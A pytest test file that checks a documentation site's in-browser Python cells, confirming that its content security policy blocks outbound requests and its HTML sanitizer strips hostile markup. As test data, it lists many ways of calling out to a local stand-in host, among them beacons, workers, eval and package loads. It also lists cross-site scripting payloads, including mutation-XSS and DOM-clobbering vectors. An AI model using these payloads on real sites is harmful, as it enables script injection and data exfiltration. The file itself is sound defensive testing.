"""Live cells reach no stranger: not by code, and not by the markup that they show."""

import http.server
import threading
from types import SimpleNamespace

import pytest

from .cells import FRAMES, put, ran, run, tab_of, visit
from .watching import VIOLATIONS

WORKER = """
window.__Blob = Blob;
window.Blob = class extends Blob {
  constructor(parts, options) {
    const watch = "self.violations = []; self.addEventListener('securitypolicyviolation',"
      + " (event) => self.violations.push(event.effectiveDirective));";
    super(options?.type === "text/javascript" ? [watch, ...parts] : parts, options);
  }
};
"""


@pytest.fixture(scope="module")
def stranger():
    """Another origin of this machine, which takes whatever comes, and notes it."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        do_POST = do_HEAD = do_PUT = do_OPTIONS = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    host = f"127.0.0.1:{server.server_port}"
    yield SimpleNamespace(host=host, url=f"http://{host}/", asked=asked)
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def page(browser, origin):
    """A page whose Python the tests of this file share; it notes what its policy blocks."""
    with tab_of(browser) as tab:
        tab.add_init_script(VIOLATIONS)
        tab.add_init_script(WORKER)
        yield visit(tab, origin)


ORDINARY = """import js
import numpy as np
from adamdocs.drawing.curves import plot
display(plot(np.arange(3)))
1 / 0
"""


def blocked(page):
    """What the policy had to block so far, in the page and in the worker of Python."""
    [[_, there]] = ran(page, "import js\nlist(js.violations)")
    return page.evaluate("window.__violations"), there


def test_an_ordinary_run_breaks_no_rule(page):
    shown = ran(page, ORDINARY)
    assert [kind for kind, _ in shown] == ["markup", "error"]
    assert blocked(page) == ([], "[]\n")


# Each is tried with `URL`, an address of the stranger, and `options` to name what JavaScript takes.
WAYS = {
    "fetch": "js.fetch(URL, options(mode='no-cors'))",
    "request": "r = js.XMLHttpRequest.new()\nr.open('GET', URL, False)\nr.send()",
    "socket": "js.WebSocket.new(URL.replace('http', 'ws'))",
    "events": "js.EventSource.new(URL)",
    "transport": "js.WebTransport.new(URL.replace('http:', 'https:'))",
    "face": "js.FontFace.new('stolen', f'url({URL})').load()",
    "beacon": "js.navigator.sendBeacon(URL, 'data')",
    "scripts": "js.importScripts(URL)",
    "worker": "js.Worker.new(URL)",
    "blob worker": "watch(js.Worker.new(blob(f'fetch({URL!r}).catch(() => postMessage(0))')))",
    "module worker": "watch(js.Worker.new(blob(f'import {URL!r}'), options(type='module')))",
    "open_url": "import pyodide.http\npyodide.http.open_url(URL)",
    "pyfetch": "import asyncio, pyodide.http\nasyncio.ensure_future(pyodide.http.pyfetch(URL))",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL)",
    "package": "import pyodide_js\npyodide_js.loadPackage(URL + 'stolen-1-py3-none-any.whl')",
    "import": "import pyodide.code\npyodide.code.run_js(f'import({URL!r})')",
    "eval": "js.eval(f'fetch({URL!r})')",
    "function": "js.Function.new(f'fetch({URL!r})')()",
    "timer": "js.setTimeout(f'fetch({URL!r})', 0)",
}
TRY = """import js
from pyodide.ffi import create_proxy, to_js

refused = []
def options(**named): return to_js(named, dict_converter=js.Object.fromEntries)
def blob(script):
    parts = js.Blob.new(to_js([script]), options(type="text/javascript"))
    return js.URL.createObjectURL(parts)
def note(event):
    event.preventDefault()  # else the error ends the worker of Python
    refused.append(event.type)
def watch(worker): worker.onerror = worker.onmessage = create_proxy(note)

for name, source in {ways!r}.items():
    try:
        exec(source, globals() | {{"URL": {url!r} + name.replace(" ", "-")}})
    except Exception as error:
        print(name, str(error).strip().splitlines()[-1][:60])
"""
REFUSED = "sorted(refused), sorted(js.violations)"
# What answers with an error, and the directives that stop the rest.
ERRORS = {
    "request": "NetworkError",
    "beacon": "sendBeacon",
    "scripts": "TypeError",
    "worker": "SecurityError",
    "open_url": "NetworkError",
    "urllib": "<urlopen",
    "import": "EvalError",
    "eval": "EvalError",
    "function": "EvalError",
}
MOST_LOOKS = 500  # until the last has been refused
VIOLATED = ["connect-src"] * 9 + ["font-src"] + ["script-src"] * 4
SAME = """request = js.XMLHttpRequest.new()
request.open("GET", f"{js.location.origin}/adam/sitemap.xml", False)
request.send()
request.status
"""


def test_code_reaches_no_stranger(page, stranger):
    put(page, TRY.format(ways=WAYS, url=stranger.url), REFUSED, SAME)
    [[_, errors]] = run(page, 1)
    told = [line.split()[:2] for line in errors.splitlines()]
    assert {name: error.rstrip(":") for name, error in told} == ERRORS
    answers = [["text", f"({['error', 'message']}, {VIOLATED})\n"]]
    for _ in range(MOST_LOOKS):
        if run(page, 2) == answers:
            break
    assert run(page, 2) == answers
    assert run(page, 3) == [["text", "200\n"]]
    assert stranger.asked == []
    assert page.request.get(f"{stranger.url}heard").ok
    assert stranger.asked == ["GET /heard"]


# What a cell may not put into the page; STRANGER stands for an address of the stranger.
MARKUPS = """
<script>window.__ran = 1</script>
<img src=x onerror="window.__ran = 1">
<img src="STRANGER"><img srcset="STRANGER 1x">
<svg onload="window.__ran = 1"><path d="M0 0H1"/></svg>
<svg><script>window.__ran = 1</script></svg>
<svg><image href="STRANGER"/><feImage href="STRANGER"/><use href="STRANGER#a"/></svg>
<svg><a xlink:href="javascript:window.__ran = 1"><text>here</text></a></svg>
<svg><animate attributeName="href" values="javascript:window.__ran = 1"/></svg>
<svg><foreignObject><iframe srcdoc="<script>top.__ran = 1</script>"></iframe></foreignObject></svg>
<svg><foreignObject><svg><foreignObject><body onload="window.__ran = 1"><style></style></svg></svg>
<svg><style>@import "STRANGER"; * { background: url(STRANGER) }</style></svg>
<svg><rect width="9" fill="url(STRANGER#a)" filter="u\\72l(STRANGER#b)"/></svg>
<svg><rect width="9" mask="URL( STRANGER#c )" cursor="url(STRANGER), auto"/></svg>
<a href="javascript:window.__ran = 1">here</a><a href="STRANGER">there</a>
<style>* { background: url(STRANGER) }</style>
<p style="background: url(STRANGER); position: fixed; inset: 0">over all</p>
<p style="background: image-set('STRANGER' 1x)">behind</p>
<form action="STRANGER"><input name="q"><button>Send</button></form>
<button formaction="STRANGER" popovertarget="top">Send</button><textarea></textarea>
<iframe src="STRANGER"></iframe><object data="STRANGER"></object><embed src="STRANGER">
<meta http-equiv="refresh" content="0;url=STRANGER">
<link rel="stylesheet" href="STRANGER"><base href="STRANGER">
<table background="STRANGER"><tr><td background="STRANGER">1</td></tr></table>
<video src="STRANGER" poster="STRANGER" autoplay></video><audio src="STRANGER"></audio>
<picture><source srcset="STRANGER"><img src="STRANGER"></picture>
<p id="__md_scope" name="__md_scope">clobbers</p><p id="cookie">clobbers</p>
<p data-md-component="header" tabindex="0" popover>the theme's</p>
<adam-cell><pre><code>1</code></pre></adam-cell><adam-stream></adam-stream>
<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=window.__ran=1>">
<svg></p><style><a title="</style><img src=x onerror=window.__ran=1>">
<noscript><p title="</noscript><img src=x onerror=window.__ran=1>"></noscript>
<template><img src="STRANGER" onerror="window.__ran = 1"></template>
"""
SHOW = """
class Shown:
    def __init__(self, text): self.text = text
    def {method}(self): return self.text
for text in {texts!r}:
    display(Shown(text))
"""
# Every element and attribute that a cell shows.
LEFT = """() => {
  const all = [...document.querySelectorAll("adam-cell .ad-cell-output *")];
  const deep = all.flatMap((one) => [one, ...(one.content?.querySelectorAll("*") ?? [])]);
  return [
    [...new Set(deep.map(({ localName }) => localName))].sort(),
    [...new Set(deep.flatMap((one) => one.getAttributeNames()))].sort(),
  ];
}"""
HARMLESS = "code p path pre rect svg table tbody td text tr".split()
PLAIN = "d data-kind height width".split()


@pytest.mark.parametrize("method", ["_repr_html_", "_repr_svg_"])
def test_markup_runs_nothing_and_loads_nothing(page, stranger, method):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    texts = MARKUPS.strip().replace("STRANGER", f"{stranger.url}shown").splitlines()
    heard = list(stranger.asked)
    shown = ran(page, SHOW.format(method=method, texts=texts) + "'all'")
    assert shown[-1] == ["text", "'all'\n"]
    assert len(shown) > len(texts) / 2
    page.evaluate(FRAMES)
    elements, attributes = page.evaluate(LEFT)
    assert set(elements) <= set(HARMLESS)
    assert set(attributes) <= set(PLAIN)
    assert page.evaluate("window.__ran") is None
    # What is cleaned was read in a document of its own, where the policy holds, too.
    violated = {one.split()[0] for one in page.evaluate("window.__violations")}
    assert violated <= {"script-src-attr", "base-uri"}
    assert asked == []
    assert stranger.asked == heard


# A tree as names, attributes and texts; what cleaning is given, and what it leaves.
TREE = """(root) => {
  const tree = (node) => node.nodeType === Node.TEXT_NODE ? node.data : [
    node.localName, node.namespaceURI,
    Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value])),
    [...node.childNodes].map(tree),
  ];
  return tree(root);
}"""
PARSED = """(text) => {
  const root = document.createElement("template");
  root.innerHTML = text;
  return root.content.firstChild;
}"""
DRAWING = """import numpy as np
from adamdocs.drawing.curves import plot
plot({"one <&> two": np.exp(np.arange(9)), "three": [1, np.nan, 3], "v": np.ones(4)},
     y_label="loss", y_scale="log")
"""


def test_a_drawing_passes_whole(page):
    names = {}
    exec(DRAWING.replace("\nplot(", "\ndrawn = plot("), names)
    [[kind, _]] = ran(page, DRAWING)
    assert kind == "markup"
    before = page.evaluate_handle(PARSED, names["drawn"]._repr_html_()).evaluate(TREE)
    after = page.locator("adam-cell .ad-figure").evaluate(TREE)
    assert before[3][0][0] == "svg"
    assert len(before[3][0][3]) > 5
    assert after == before
    assert page.locator("adam-cell svg").get_attribute("role") == "img"
